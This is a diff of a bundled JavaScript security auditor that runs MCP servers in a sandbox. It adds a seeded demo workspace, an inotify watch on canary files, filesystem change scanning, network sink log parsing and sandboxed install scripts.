+                    if (!SKIPPED_KEYS.has(key))
+                        visit(item, field ? `${field}.${key}` : key, depth + 1);
+                }
+            }
+        };
+        visit(response, '', 0);
+    }
+}
+
 ;// CONCATENATED MODULE: ./src/probe/session.ts
+
 
 
 
@@ -33752,6 +35963,8 @@ async function probeServer(options) {
         });
     });
     let nonJsonLines = 0;
+    // Every answer's text is scanned as it arrives; only what was found is kept (bounded).
+    const textScanner = new ResultTextScanner(options.canaries ? { canaries: options.canaries } : {});
     const client = makeClient(options.rootDir);
     client.onerror = (error) => {
         if (error instanceof SyntaxError)
@@ -33764,6 +35977,7 @@ async function probeServer(options) {
         listing: { tools: [], resources: [], resourceTemplates: [], prompts: [] },
         relisting: null,
         calls: [],
+        textHits: textScanner.hits,
         gaps: [],
         shutdownAt: 0,
         stderrTail: ''
@@ -33866,6 +36080,7 @@ async function probeServer(options) {
             let answer;
             try {
                 const response = await run();
+                textScanner.scan(call.id, response);
                 answer = { ok: true, response };
                 if (typeof response === 'object' && response !== null && response.isError === true) {
                     call.outcome = 'error-result';
@@ -33968,6 +36183,598 @@ async function probeServer(options) {
         const rootPid = transport.pid;
         if (rootPid !== null && isAlive(rootPid))
             await stopTree(rootPid, 0);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/probe/workspace-seed.ts
+
+
+
+// A small realistic project for tools to work on: the server's working directory holds it (in the
+// copy-on-write view, where the server's changes never reach the user's checkout), so a `read_file`
+// has a file to read, a `list_directory` a directory to list and a `git_log` commits to show.
+// Files the user's directory already has are left as they are (see sandbox/workspace-view.ts).
+const PNG_1X1 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+const FILES = {
+    'README.md': '# notes-app\n\nA small note-taking app.\n\n## Usage\n\nRun `npm start` and open the app.\n',
+    'notes.txt': 'Buy milk\nCall Alex about the release\nReview the pull request\n',
+    'package.json': JSON.stringify({ name: 'notes-app', version: '1.0.0', private: true, scripts: { start: 'node src/index.js' } }, null, 2) + '\n',
+    'data/contacts.csv': 'name,email,city\nAlex,alex@example.com,Berlin\nSam,sam@example.com,Lisbon\n',
+    'data/config.json': JSON.stringify({ theme: 'light', pageSize: 20 }, null, 2) + '\n',
+    'docs/guide.md': '# Guide\n\nNotes are saved as Markdown files.\n',
+    'docs/images/logo.png': Buffer.from(PNG_1X1, 'base64'),
+    'src/index.js': "console.log('notes-app')\n"
+};
+const SECOND_COMMIT = { 'CHANGELOG.md': '# Changelog\n\n## 1.0.0\n\n- First release\n' };
+function seedListing() {
+    const text = { ...FILES, ...SECOND_COMMIT };
+    const files = Object.keys(text).filter((path) => typeof text[path] === 'string');
+    const dirs = [
+        '.',
+        ...new Set(Object.keys(FILES)
+            .filter((path) => path.includes('/'))
+            .map((path) => (0,external_node_path_.dirname)(path)))
+    ];
+    const firstLines = Object.fromEntries(files.map((path) => [path, String(text[path]).split('\n')[0]]));
+    return { files, dirs, firstLines };
+}
+// The history, in the order `git commit` would have made it: one `git fast-import` writes every commit
+// and ref at once (a pack, as a clone has) where a commit per process took a dozen git processes and most
+// of the audit's setup time.
+const HISTORY = [
+    { branch: 'main', message: 'Initial commit', files: FILES },
+    { branch: 'main', message: 'Add a changelog', files: SECOND_COMMIT },
+    { branch: 'feature', from: 'main', message: 'Describe the search feature', files: { 'docs/feature.md': '# Feature\n\nSearch across notes.\n' } }
+];
+const AUTHOR = 'Alex Doe <alex@example.com> 1704110400 +0000';
+function fastImportStream() {
+    const parts = [];
+    const text = (line) => parts.push(Buffer.from(line, 'utf8'));
+    const data = (content) => {
+        const bytes = typeof content === 'string' ? Buffer.from(content, 'utf8') : content;
+        text(`data ${bytes.length}\n`);
+        parts.push(bytes, Buffer.from('\n'));
+    };
+    const tips = new Map();
+    HISTORY.forEach((commit, index) => {
+        const mark = index + 1;
+        text(`commit refs/heads/${commit.branch}\nmark :${mark}\nauthor ${AUTHOR}\ncommitter ${AUTHOR}\n`);
+        data(`${commit.message}\n`);
+        const parent = tips.get(commit.branch) ?? (commit.from ? tips.get(commit.from) : undefined);
+        if (parent !== undefined)
+            text(`from :${parent}\n`);
+        for (const [path, content] of Object.entries(commit.files)) {
+            text(`M 100644 inline ${path}\n`);
+            data(content);
+        }
+        tips.set(commit.branch, mark);
+    });
+    // What `git fetch origin` from the repository itself leaves: the remote-tracking branches.
+    for (const [branch, mark] of tips)
+        text(`reset refs/remotes/origin/${branch}\nfrom :${mark}\n\n`);
+    return Buffer.concat(parts);
+}
+/** A value for .git/config as `git config` writes it: quoted only when it must be to read back as itself. */
+function configValue(value) {
+    if (/^[^\s"\\;#]([^"\\;#\n\t]*[^\s"\\;#])?$/.test(value))
+        return value;
+    return `"${value.replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/\n/g, '\\n').replace(/\t/g, '\\t')}"`;
+}
+// Who commits, as a project's own config would say; an `origin` to pull from and push to that needs no
+// network: the repository itself, where the server will see it (its working directory), tracked by main.
+function projectConfig(shownAt) {
+    return [
+        '[user]',
+        '\tname = Alex Doe',
+        '\temail = alex@example.com',
+        '[pull]',
+        '\trebase = false',
+        '[remote "origin"]',
+        `\turl = ${configValue(shownAt)}`,
+        '\tfetch = +refs/heads/*:refs/remotes/origin/*',
+        '[branch "main"]',
+        '\tremote = origin',
+        '\tmerge = refs/heads/main',
+        ''
+    ].join('\n');
+}
+/**
+ * Writes the seed tree into `dir` (empty), with a git repository of two commits on main and one on a
+ * feature branch when git is installed and the history can be seen at `shownAt` (where the server will
+ * see the tree: its working directory).
+ */
+async function writeSeed(dir, shownAt, env) {
+    const checkedOut = { ...FILES, ...SECOND_COMMIT };
+    await Promise.all([...new Set(Object.keys(checkedOut).map((path) => (0,external_node_path_.dirname)((0,external_node_path_.join)(dir, path))))].map((path) => (0,promises_.mkdir)(path, { recursive: true })));
+    await Promise.all(Object.entries(checkedOut).map(([path, content]) => (0,promises_.writeFile)((0,external_node_path_.join)(dir, path), content, { mode: 0o644 })));
+    const gitEnv = { PATH: env.PATH ?? '/usr/bin:/bin', HOME: dir, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };
+    const git = (args, input) => new Promise((resolve, reject) => {
+        const child = (0,external_node_child_process_namespaceObject.execFile)('git', args, { cwd: dir, env: gitEnv, timeout: 10_000 }, (error) => (error ? reject(error) : resolve()));
+        child.stdin?.on('error', () => undefined);
+        child.stdin?.end(input);
+    });
+    // The seed's files are shown only where the real directory has nothing (sandbox/workspace-view.ts): a
+    // working directory whose `.git` is a file or a link (a worktree, a submodule) keeps it, and a history
+    // made here would never be seen. A `.git` directory gets the seed's refs and objects it lacks.
+    const own = await (0,promises_.lstat)((0,external_node_path_.join)(shownAt, '.git')).catch(() => null);
+    if (own && !own.isDirectory())
+        return;
+    try {
+        // Every file the seed writes is copied into the view and removed with the run directory, a cost per
+        // file on every audit: no hook samples or description from git's template, and the objects kept in
+        // fast-import's one pack (below its unpack limit, 100 objects, it would write each one loose).
+        await git(['init', '-q', '-b', 'main', '--template=']);
+        await (0,promises_.appendFile)((0,external_node_path_.join)(dir, '.git', 'config'), projectConfig(shownAt));
+        await git(['-c', 'fastimport.unpackLimit=0', 'fast-import', '--quiet'], fastImportStream());
+        // The index of main's tree, so the checkout reads as clean.
+        await git(['read-tree', 'main']);
+    }
+    catch {
+        // No git here: the workspace is still a project, without history.
+    }
+}
+
+;// CONCATENATED MODULE: external "node:readline"
+const external_node_readline_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:readline");
+;// CONCATENATED MODULE: ./src/sandbox/canary-watch.ts
+
+
+
+
+// The kernel as a witness of canary reads: inotify on the canary home (through inotifywait) reports every
+// read of a file there (ACCESS) and every read-only open once closed (CLOSE_NOWRITE, which covers mmap),
+// whichever way the server made it — io_uring, a process strace lost, a syscall the trace does not decode.
+// Opens for writing are left out: writing a canary file is not reading it. It cannot say who read (only that the server's sandbox did: nothing
+// else runs there) nor what was read; the profile puts each read in a call by its time.
+const CanaryWatchRecordSchema = cli_schemas/* object */.Ikc({
+    at: cli_schemas/* number */.aig().describe('Epoch milliseconds the init heard of it'),
+    event: cli_schemas/* enum */.k5n(['read-only-open', 'access']),
+    /** relative to the canary home */
+    path: cli_schemas/* string */.YjP()
+});
+/** Records kept per run: a server reading in a loop cannot fill the disk. */
+const CANARY_WATCH_MAX_RECORDS = 10_000;
+/** The same open or read of the same file again within this long is the same read (a large file is many ACCESS events). */
+const REPEAT_MS = 100;
+/** One line of `inotifywait --format '%e\t%w%f'`, relative to `root`; none for directories and other events. */
+function readWatchLine(line, root) {
+    const tab = line.indexOf('\t');
+    if (tab < 0)
+        return [];
+    const flags = line.slice(0, tab).split(',');
+    const path = line.slice(tab + 1);
+    const prefix = root.endsWith('/') ? root : `${root}/`;
+    if (flags.includes('ISDIR') || !path.startsWith(prefix))
+        return [];
+    const relative = path.slice(prefix.length);
+    const events = [];
+    if (flags.includes('CLOSE_NOWRITE'))
+        events.push({ event: 'read-only-open', path: relative });
+    if (flags.includes('ACCESS'))
+        events.push({ event: 'access', path: relative });
+    return events;
+}
+/**
+ * Watches `root` recursively and hands each read to `record`; resolves once the watches are in
+ * place (so nothing the server does later is missed), or with why it cannot watch.
+ */
+function watchCanaryHome(root, record) {
+    return new Promise((resolve) => {
+        const watcher = spawn('inotifywait', ['-m', '-r', '-e', 'access,close_nowrite', '--format', '%e\t%w%f', root], { stdio: ['ignore', 'pipe', 'pipe'] });
+        let stderr = '';
+        let settled = false;
+        const settle = (outcome) => {
+            if (settled)
+                return;
+            settled = true;
+            clearTimeout(timer);
+            resolve(outcome);
+        };
+        const timer = setTimeout(() => {
+            watcher.kill();
+            settle(`inotifywait: no watches after 5 s: ${stderr.trim()}`);
+        }, 5_000);
+        const last = new Map();
+        let written = 0;
+        createInterface({ input: watcher.stdout }).on('line', (line) => {
+            const at = Date.now();
+            for (const event of readWatchLine(line, root)) {
+                const key = `${event.event}\0${event.path}`;
+                const previous = last.get(key);
+                last.set(key, at);
+                if ((previous !== undefined && at - previous < REPEAT_MS) || written >= CANARY_WATCH_MAX_RECORDS)
+                    continue;
+                written += 1;
+                record({ at, ...event });
+            }
+        });
+        watcher.stderr.on('data', (chunk) => {
+            stderr = (stderr + chunk.toString('utf8')).slice(-2048);
+            if (/Watches established/.test(stderr))
+                settle({ stop: () => watcher.kill() });
+        });
+        watcher.once('error', (error) => settle(`inotifywait: ${error.message} (install inotify-tools)`));
+        watcher.once('exit', (code) => settle(`inotifywait exited (${code ?? 'signal'}): ${stderr.trim()}`));
+    });
+}
+/** The watch's records (canary-watch.jsonl), read back after the audit; torn or foreign lines are skipped. */
+async function readCanaryWatchLog(path) {
+    const text = await (0,promises_.readFile)(path, 'utf8').catch(() => '');
+    const records = [];
+    for (const line of text.split('\n')) {
+        if (line === '')
+            continue;
+        try {
+            const parsed = CanaryWatchRecordSchema.safeParse(JSON.parse(line));
+            if (parsed.success)
+                records.push(parsed.data);
+        }
+        catch {
+            // a torn last line
+        }
+    }
+    return records;
+}
+
+;// CONCATENATED MODULE: external "node:stream/promises"
+const external_node_stream_promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream/promises");
+;// CONCATENATED MODULE: ./src/sandbox/file-changes.ts
+
+
+
+
+
+const MAX_CHANGES = 10_000;
+const MAX_HASHED_BYTES = 16 * 1024 * 1024;
+const MAX_TAR_BYTES = 5 * 1024 * 1024;
+async function hashFile(path) {
+    const hash = (0,external_node_crypto_.createHash)('sha256');
+    await (0,external_node_stream_promises_namespaceObject.pipeline)((0,external_node_fs_.createReadStream)(path), hash);
+    return hash.digest('hex');
+}
+async function lstatOrNull(path) {
+    return (0,promises_.lstat)(path).catch(() => null);
+}
+/** Entries of one directory inspected at once; their changes are still taken in name order. */
+const INSPECTED_TOGETHER = 16;
+/** What one entry of an area is: a directory to walk, a change, or nothing the server did. */
+async function inspect(area, rel, lowerExists) {
+    const source = (0,external_node_path_.join)(area.dir, rel);
+    const shown = external_node_path_.posix.join(area.shownAt, rel);
+    const stats = await lstatOrNull(source);
+    if (!stats)
+        return null;
+    const lower = area.lower !== undefined && lowerExists ? await lstatOrNull((0,external_node_path_.join)(area.lower, rel)) : null;
+    if (stats.isCharacterDevice() && stats.rdev === 0) {
+        // An overlay whiteout: the server deleted what the lower layer had here.
+        return lower ? { change: { path: shown, change: 'deleted', kind: lower.isDirectory() ? 'directory' : lower.isSymbolicLink() ? 'symlink' : 'file' } } : null;
+    }
+    if (stats.isDirectory())
+        return { directory: rel, lowerIsDirectory: Boolean(lower?.isDirectory()), shown };
+    if (stats.isSymbolicLink()) {
+        const target = await (0,promises_.readlink)(source).catch(() => '');
+        const before = lower?.isSymbolicLink() && area.lower !== undefined ? await (0,promises_.readlink)((0,external_node_path_.join)(area.lower, rel)).catch(() => null) : null;
+        return before !== target ? { change: { path: shown, change: lower ? 'modified' : 'created', kind: 'symlink', target } } : null;
+    }
+    if (!stats.isFile())
+        return { change: { path: shown, change: lower ? 'modified' : 'created', kind: 'other' } };
+    const sha256 = stats.size <= MAX_HASHED_BYTES ? await hashFile(source).catch(() => undefined) : undefined;
+    const placed = area.placed?.get(rel);
+    if (placed !== undefined) {
+        // A mask the auditor placed: a change only if the server rewrote it.
+        if (sha256 === placed)
+            return null;
+        return { change: { path: shown, change: 'modified', kind: 'file', size: stats.size, ...(sha256 ? { sha256 } : {}) }, source };
+    }
+    if (lower?.isFile() && lower.size === stats.size && area.lower !== undefined && sha256 !== undefined) {
+        // A copy-up without a content change (chmod, touch, open for writing without writing).
+        if ((await hashFile((0,external_node_path_.join)(area.lower, rel)).catch(() => null)) === sha256)
+            return null;
+    }
+    return { change: { path: shown, change: lower ? 'modified' : 'created', kind: 'file', size: stats.size, ...(sha256 ? { sha256 } : {}) }, source };
+}
+async function scanChanges(areas) {
+    const scan = { changes: [], sources: new Map(), truncated: false };
+    const add = (change, source) => {
+        if (scan.changes.length >= MAX_CHANGES) {
+            scan.truncated = true;
+            return false;
+        }
+        scan.changes.push(change);
+        if (source)
+            scan.sources.set(change.path, source);
+        return true;
+    };
+    const walk = async (area, relative, lowerExists) => {
+        let entries;
+        try {
+            entries = (await (0,promises_.readdir)((0,external_node_path_.join)(area.dir, relative), { withFileTypes: true })).sort((a, b) => (a.name < b.name ? -1 : 1));
+        }
+        catch {
+            return;
+        }
+        for (let at = 0; at < entries.length; at += INSPECTED_TOGETHER) {
+            if (scan.truncated)
+                return;
+            const batch = entries.slice(at, at + INSPECTED_TOGETHER).map((entry) => (relative === '' ? entry.name : `${relative}/${entry.name}`));
+            for (const inspected of await Promise.all(batch.map((rel) => inspect(area, rel, lowerExists)))) {
+                if (scan.truncated)
+                    return;
+                if (inspected === null)
+                    continue;
+                if ('change' in inspected) {
+                    add(inspected.change, inspected.source);
+                    continue;
+                }
+                const { directory, lowerIsDirectory, shown } = inspected;
+                if (area.mountPoints?.has(directory)) {
+                    await walk(area, directory, false);
+                    continue;
+                }
+                if (!lowerIsDirectory && !area.placed?.has(directory) && !add({ path: shown, change: 'created', kind: 'directory' }))
+                    return;
+                await walk(area, directory, lowerIsDirectory);
+            }
+        }
+    };
+    for (const area of areas)
+        await walk(area, '', true);
+    scan.changes.sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
+    return scan;
+}
+/**
+ * changes.tar: the bytes of every created or modified regular file, at the path the server saw
+ * (without the leading slash), until MAX_TAR_BYTES; what does not fit is listed in the report only.
+ * Returns how many files went in.
+ */
+async function writeChangesTar(scan, target, maxBytes = MAX_TAR_BYTES) {
+    // loaded here: most audits change no file, and it would cost every one's start
+    const { pack } = await __nccwpck_require__.e(/* import() */ 118).then(__nccwpck_require__.t.bind(__nccwpck_require__, 6118, 19));
+    const tar = pack();
+    const output = (0,external_node_stream_promises_namespaceObject.pipeline)(tar, (0,external_node_fs_.createWriteStream)(target, { flags: 'wx', mode: 0o644 }));
+    let budget = maxBytes;
+    let files = 0;
+    let omitted = 0;
+    for (const change of scan.changes) {
+        const source = scan.sources.get(change.path);
+        if (!source || change.kind !== 'file' || change.change === 'deleted')
+            continue;
+        const size = change.size ?? 0;
+        if (size > budget) {
+            omitted += 1;
+            continue;
+        }
+        const stats = await lstatOrNull(source);
+        if (!stats?.isFile() || stats.size !== size) {
+            omitted += 1;
+            continue;
+        }
+        await new Promise((resolve, reject) => {
+            const entry = tar.entry({ name: change.path.replace(/^\/+/, ''), size, mode: 0o644, mtime: stats.mtime }, (error) => (error ? reject(error) : resolve()));
+            (0,external_node_fs_.createReadStream)(source).on('error', reject).pipe(entry);
+        });
+        budget -= size;
+        files += 1;
+    }
+    tar.finalize();
+    await output;
+    return { files, omitted };
+}
+
+// EXTERNAL MODULE: ./src/sandbox/settle-all.ts
+var settle_all = __nccwpck_require__(3134);
+;// CONCATENATED MODULE: ./src/sandbox/sink-log.ts
+
+
+
+// The sink's record of what it answered (network.jsonl), read back after the audit; once the trace is
+// read, each connection is put in its call (profile/sink-witness.ts: by its socket, else by time).
+const MAX_REPLY_BODY = 1 << 20;
+/** Connections listed in the report; network.jsonl keeps them all (up to the sink's own cap). */
+const MAX_REPORTED_SINK_RECORDS = 1_000;
+/** The sink's HTTP reply as the init config carries it; the body file is read here, by the caller. */
+async function loadHttpReply(setting) {
+    if (setting.bodyFile === null)
+        return { status: setting.status, contentType: 'application/json', bodyBase64: Buffer.from('{}').toString('base64') };
+    let body;
+    try {
+        if ((await (0,promises_.stat)(setting.bodyFile)).size > MAX_REPLY_BODY)
+            throw new Error('larger than 1 MiB');
+        body = await (0,promises_.readFile)(setting.bodyFile);
+    }
+    catch (error) {
+        throw new errors/* ConfigurationError */.j1(`--http-reply: cannot use ${setting.bodyFile} as the reply body: ${error instanceof Error ? error.message : String(error)}`);
+    }
+    let contentType = 'text/plain; charset=utf-8';
+    try {
+        JSON.parse(body.toString('utf8'));
+        contentType = 'application/json';
+    }
+    catch {
+        // not JSON
+    }
+    return { status: setting.status, contentType, bodyBase64: body.toString('base64') };
+}
+/** Reads the sink's records; a line that is not one (a half-written last line) is skipped. */
+async function readSinkLog(path) {
+    let text;
+    try {
+        text = await (0,promises_.readFile)(path, 'utf8');
+    }
+    catch {
+        return { text: '', records: [], dropped: 0, payloads: [] };
+    }
+    const sink = [];
+    const records = [];
+    let dropped = 0;
+    const payloads = [];
+    for (const line of text.split('\n')) {
+        if (line === '')
+            continue;
+        let parsed;
+        try {
+            parsed = model/* SinkRecordSchema */._2.safeParse(JSON.parse(line));
+        }
+        catch {
+            continue;
+        }
+        if (!parsed.success)
+            continue;
+        records.push(JSON.stringify(parsed.data));
+        const { payload, ...record } = parsed.data;
+        const origin = { at: record.at, transport: record.transport ?? 'tcp', sourcePort: record.sourcePort };
+        if (record.dns) {
+            for (const question of record.dns)
+                payloads.push({ ...origin, destination: question.name.toLowerCase(), via: 'dns', data: Buffer.from(question.name, 'latin1') });
+        }
+        else if (payload !== undefined) {
+            const host = record.sni ?? record.http?.host ?? record.address;
+            const tls = record.protocol === 'tls' ? ' (TLS)' : '';
+            payloads.push({ ...origin, destination: `${host}:${record.port}${tls}`, via: 'socket', data: Buffer.from(payload, 'base64') });
+        }
+        if (sink.length >= MAX_REPORTED_SINK_RECORDS) {
+            dropped += 1;
+            continue;
+        }
+        sink.push(record);
+    }
+    sink.sort((a, b) => a.at - b.at);
+    return { text: records.map((record) => `${record}\n`).join(''), records: sink, dropped, payloads };
+}
+
+;// CONCATENATED MODULE: ./src/engine/probe-in-sandbox.ts
+// The probe stage of an audit: the MCP session with the server the sandbox started (over its stdio or
+// through the HTTP relay), and what the run directory holds once it has ended — the init's status, the
+// sink's records, the view's changes, the kernel's canary watch — with network.jsonl and changes.tar
+// written to the out-dir.
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** The session, to its end; an interrupted one keeps what it saw, a server that would not start is explained. */
+async function probeInSandbox(settings, target, sandbox, runtime) {
+    const { paths } = sandbox;
+    const http = settings.http ?? null;
+    let probe;
+    let incomplete = null;
+    try {
+        probe = await probeServer({
+            transport: http
+                ? sandboxedHttp(sandbox.launcher, {
+                    endpoint: { flavour: http.flavour, url: http.url === null ? null : new URL(http.url) },
+                    relaySocket: paths.relaySocket,
+                    statusPath: paths.status,
+                    // The init's own verdict (it watches the server's sockets) comes first.
+                    listenTimeoutMs: sandbox.initializeTimeoutMs + 2_000
+                })
+                : sandboxedStdio(sandbox.launcher),
+            rootDir: settings.cwd,
+            workspace: sandbox.seed ? { root: settings.cwd, ...seedListing() } : null,
+            scenario: target.scenario
+                ? {
+                    steps: resolveSteps(target.scenario, { workdir: settings.cwd, home: sandbox.homePath, canaries: sandbox.canaries }),
+                    synthesize: target.scenario.synthesize
+                }
+                : null,
+            timeoutMs: settings.timeoutMs,
+            initializeTimeoutMs: sandbox.initializeTimeoutMs,
+            callsPerTool: settings.callsPerTool,
+            canaries: sandbox.canaryIndex,
+            logger: runtime.logger,
+            ...(runtime.signal ? { signal: runtime.signal } : {})
+        });
+    }
+    catch (error) {
+        if (error instanceof ProbeAborted) {
+            probe = error.partial;
+            incomplete = 'interrupted before the audit finished';
+        }
+        else if (error instanceof errors/* ProbeStartError */.d9) {
+            throw await explainStartFailure(error, paths.status, settings);
+        }
+        else {
+            throw error;
+        }
+    }
+    if (!probe.shutdownAt)
+        probe.shutdownAt = Date.now();
+    return { probe, incomplete };
+}
+async function collectEvidence(sandbox, session, outDir, logger) {
+    const { paths, containment } = sandbox;
+    const [status, sinkSeen, changes, canaryWatchSeen] = await (0,settle_all/* settleAll */.j)([
+        readStatus(paths.status),
+        paths.sinkLog ? readSinkLog(paths.sinkLog) : null,
+        containment ? scanChanges(containment.changeAreas) : null,
+        readCanaryWatchLog(paths.canaryWatchLog)
+    ]);
+    for (const entry of status) {
+        if (entry.event === 'warning' && entry.message)
+            logger.debug(entry.message);
+    }
+    let { incomplete } = session;
+    const tracerStop = tracerStoppedEarly(status, session.probe.shutdownAt);
+    if (tracerStop && !incomplete) {
+        incomplete = tracerStop;
+        logger.warn(`audit incomplete: ${tracerStop}`);
+    }
+    const networkLog = (0,external_node_path_.join)(outDir, 'network.jsonl');
+    const changesArchive = changes?.changes.some((change) => change.kind === 'file' && change.change !== 'deleted') ? 'changes.tar' : undefined;
+    await (0,settle_all/* settleAll */.j)([
+        // With --network host there is no sink: no network.jsonl, not even one left by an earlier run.
+        sinkSeen ? (0,output_files/* writeOutputFile */.BF)(networkLog, sinkSeen.text) : (0,promises_.rm)(networkLog, { force: true }).catch(() => undefined),
+        changes && changesArchive ? (0,promises_.rm)((0,external_node_path_.join)(outDir, changesArchive), { force: true }).then(() => writeChangesTar(changes, (0,external_node_path_.join)(outDir, changesArchive))) : null
+    ]);
+    return { status, sinkSeen, changes, canaryWatchSeen, descriptors: descriptorsFromStatus(status), changesArchive, incomplete };
+}
+
+;// CONCATENATED MODULE: external "node:dns/promises"
+const external_node_dns_promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:dns/promises");
+;// CONCATENATED MODULE: ./src/launch/install-phase.ts
+// --install-scripts: the package's lifecycle scripts run inside the sandbox, under the same trace as the
+// server, just before it. One shell does it: it runs each script in a subshell (in the package's
+// directory, with node_modules/.bin on PATH, as npm does) and then execs the server in its own process.
+// That exec — the wrapper's second — is where phase `install` ends.
+const quote = (text) => `'${text.replace(/'/g, `'\\''`)}'`;
+/** `sh -c SCRIPT sh SERVER-ARGV…`: the lifecycle scripts, then `exec` of the server. */
+function withLifecycleScripts(packages, root, serverArgv) {
+    const lines = [
+        'run() {',
+        `  (cd "$1" && PATH="$1/node_modules/.bin:${root.replace(/(["\\$`])/g, '\\$1')}/node_modules/.bin:$PATH" npm_lifecycle_event="$2" npm_package_name="$3" sh -c "$4") || echo "$2 script of $3 exited with $?" >&2`,
+        '}'
+    ];
+    for (const pkg of packages) {
+        for (const [event, script] of Object.entries(pkg.scripts))
+            lines.push(`run ${quote(pkg.dir)} ${quote(event)} ${quote(pkg.name)} ${quote(script)}`);
+    }
+    lines.push('exec "$@"');
+    return ['sh', '-c', lines.join('\n'), 'sh', ...serverArgv];
+}
+/**
+ * Watches the trace (after the sandbox's own setup is filtered out) for the wrapper's exec of the
+ * server. Until it is seen, everything is phase `install`; after, only what strace stamped earlier.
+ */
+class InstallPhaseWatch {
+    wrapperPid = null;
+    endsAtMs = Infinity;
+    endsAt = () => this.endsAtMs;
+    see(event) {
+        if (event.type !== 'exec' || event.ret !== 0 || this.endsAtMs !== Infinity)
+            return;
+        if (this.wrapperPid === null)
+            this.wrapperPid = event.pid;
+        else if (event.pid === this.wrapperPid)
+            this.endsAtMs = Number.isNaN(event.time) ? -Infinity : event.time * 1000;
     }
 }
 
@@ -34907,75 +37714,6 @@ class CredentialLookups {
     }
 }
 
-;// CONCATENATED MODULE: ./src/profile/fold.ts
-// Bounds on the profile: a server that makes millions of distinct accesses (a flood of temp names, of
-// probed paths) must not grow the auditor's memory or the report with them. Up to a cap every path has
-// its own entry; past it, accesses are counted per directory (see file-recorder.ts). The trace on disk
-// stays complete.
-
-// ~1.5 kB of JSON per entry with its findings: these keep report.json to a few MB whatever happens.
-const DEFAULT_PROFILE_LIMITS = { files: 2000, sensitiveFiles: 2000, foldedFiles: 500, dns: 2000, network: 2000, leaks: 1000 };
-/** Levels of folding: each next one is coarser, the last is bounded by itself. */
-const FOLD_LEVELS = ['parent', 'top', 'root'];
-/** `a.b.example.com` → `*.b.example.com` (parent), `*.example.com` (top), `*` (root). */
-function foldedDnsName(name, level) {
-    if (level === 'root')
-        return '*';
-    const labels = name.split('.').filter((l) => l.length > 0);
-    const keep = level === 'parent' ? labels.slice(1) : labels.slice(-2);
-    return keep.length === 0 ? '*' : `*.${keep.join('.')}`;
-}
-/** The directory an access to `path` is counted under: its parent, its top-level directory, or `/`. */
-function foldedDirectory(path, level) {
-    if (!path.startsWith('/'))
-        return level === 'parent' ? external_node_path_.posix.dirname(path) : '.';
-    if (level === 'root')
-        return '/';
-    if (level === 'parent')
-        return external_node_path_.posix.dirname(path);
-    const slash = path.indexOf('/', 1);
-    return slash === -1 ? '/' : path.slice(0, slash);
-}
-
-;// CONCATENATED MODULE: ./src/profile/tally.ts
-
-const MAX_TRACE_LINES = 20;
-const MAX_PHASES = 10;
-class Tally {
-    tracked = new Map();
-    get size() {
-        return this.tracked.size;
-    }
-    has(key) {
-        return this.tracked.has(key);
-    }
-    /** The entry under `key` (made by `create` when there is none yet), noted as seen in `phase` at `line`. */
-    record(key, phase, line, create) {
-        let tracked = this.tracked.get(key);
-        if (!tracked) {
-            tracked = { entry: create(), phaseKeys: new Set() };
-            this.tracked.set(key, tracked);
-        }
-        const phaseId = phaseKey(phase);
-        if (!tracked.phaseKeys.has(phaseId) && tracked.phaseKeys.size < MAX_PHASES) {
-            tracked.phaseKeys.add(phaseId);
-            tracked.entry.phases.push(phase);
-        }
-        const lines = tracked.entry.traceLines;
-        if (lines.includes(line))
-            return tracked.entry;
-        // The first lines, and the latest one in the last slot: where it started and how long it went on.
-        if (lines.length < MAX_TRACE_LINES)
-            lines.push(line);
-        else if (line > lines[MAX_TRACE_LINES - 1])
-            lines[MAX_TRACE_LINES - 1] = line;
-        return tracked.entry;
-    }
-    values() {
-        return [...this.tracked.values()].map((t) => t.entry);
-    }
-}
-
 ;// CONCATENATED MODULE: ./src/profile/dns-recorder.ts
 
 
@@ -35251,300 +37989,6 @@ function parseHandleBytes(text) {
             out.push(body.charCodeAt(i) & 0xff);
     }
     return Buffer.from(out);
-}
-
-;// CONCATENATED MODULE: ./src/profile/net-effect.ts
-// The net effect of one call on the filesystem. A lock file created and removed within the call, a temp
-// file renamed over its target (an atomic save), a directory tree a failed `git clone` makes and cleans
-// up: each access is real and stays in the profile, but marked `transient`, so rules that judge what a
-// call changed (annotations, info effects) see only what the call left behind: nothing, or the target.
-
-
-const GIT_INDEX_REFRESH = "git's index refresh (.git/index.lock renamed over .git/index: a cache of file stats)";
-function isGitIndexRefresh(from, to) {
-    return to.endsWith('/.git/index') && from === `${to}.lock`;
-}
-/** Accesses held per call before they are recorded; past it the call's journal is flushed as it stands. */
-const MAX_PENDING_ACCESSES = 5_000;
-/**
- * One unit's changing accesses in trace order, and what each path went through in it. A path is *new*
- * when the unit created it (O_EXCL, creat, mkdir) or it lies under a directory the unit created: only
- * removing a new path undoes it. A path opened for writing without O_EXCL may have existed before; it
- * counts as new only under a new directory.
- *
- * The held accesses live in columns reused from one flush to the next, not in an object each: a flood
- * of creates holds thousands at a time, long enough for the GC to promote them, and objects promoted
- * only to die at the flush grew the auditor's peak memory by a third.
- */
-class CallJournal {
-    count = 0;
-    paths = [];
-    categories = [];
-    renamedTo = [];
-    via = [];
-    accesses = new Uint8Array(MAX_PENDING_ACCESSES);
-    lines = new Float64Array(MAX_PENDING_ACCESSES);
-    times = new Float64Array(MAX_PENDING_ACCESSES);
-    /** the syscall's return value; NaN for none (a process that died in it) */
-    rets = new Float64Array(MAX_PENDING_ACCESSES);
-    transient = new Uint8Array(MAX_PENDING_ACCESSES);
-    /** per held access in a path's history: the one before it in that history, or -1 */
-    earlier = new Int32Array(MAX_PENDING_ACCESSES);
-    /**
-     * Per path the unit wrote or created (whose rename onto another name is a save, not a move): the last
-     * access of its history (the accesses that made or shaped what is there now), times two, plus one
-     * when the unit created the path.
-     */
-    written = new Map();
-    get size() {
-        return this.count;
-    }
-    add(path, access, category, event, renamedTo, via) {
-        if (this.count === MAX_PENDING_ACCESSES)
-            throw new Error('the call journal is full: flush it first');
-        const at = this.count++;
-        this.paths[at] = path;
